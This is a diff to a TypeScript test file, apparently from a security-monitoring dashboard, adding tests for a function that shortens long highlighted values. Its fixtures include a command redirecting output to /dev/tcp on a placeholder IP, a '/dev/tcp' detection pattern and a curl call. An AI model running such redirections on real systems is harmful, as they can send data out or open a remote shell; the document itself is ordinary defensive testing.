@@ -4,7 +4,7 @@ import { ApiError, parseError, queryString } from "../api/client";
 import { techniqueUrl } from "./attack";
 import { accepts, fromSearch, isFirst, toParams, toSearch, usualStatus, withRepeated } from "./filters";
 import { absolute, bytes, compact, duration, excerpt, relative, text } from "./format";
-import { pieces } from "./highlight";
+import { gist, pieces } from "./highlight";
 import { bucketize } from "./histogram";
 import { selectHosts, sensorState } from "./hosts";
 import { byUrgency, fleetTotal } from "./ledger";
@@ -73,6 +73,25 @@ describe("excerpts", () => {
     expect(excerpt("a".repeat(240))).toHaveLength(240);
     expect(excerpt("a".repeat(5_000))).toBe(`${"a".repeat(240)}…`);
     expect(excerpt("🐉".repeat(300))).toBe(`${"🐉".repeat(240)}…`);
+  });
+});
+
+describe("the gist of a long value", () => {
+  it("keeps the beginning and the mark with its neighbours", () => {
+    const value = `rustc ${"a".repeat(3_000)} > /dev/tcp/192.0.2.1/9 ${"b".repeat(3_000)}`;
+    const short = gist(pieces(value, "regex /dev/tcp"));
+    expect(short.find(({ hit }) => hit)?.text).toBe("/dev/tcp");
+    const text = short.map((piece) => piece.text).join("");
+    expect(text.startsWith("rustc aaa")).toBe(true);
+    expect(text).toContain("a > /dev/tcp/192.0.2.1/9 b");
+    expect(text.length).toBeLessThan(260);
+  });
+
+  it("changes nothing where nothing is marked or little is said", () => {
+    const unmarked = pieces("a".repeat(500), "regex b");
+    expect(gist(unmarked)).toEqual(unmarked);
+    const short = pieces("curl http://192.0.2.1", "regex curl");
+    expect(gist(short)).toEqual(short);
   });
 });
 
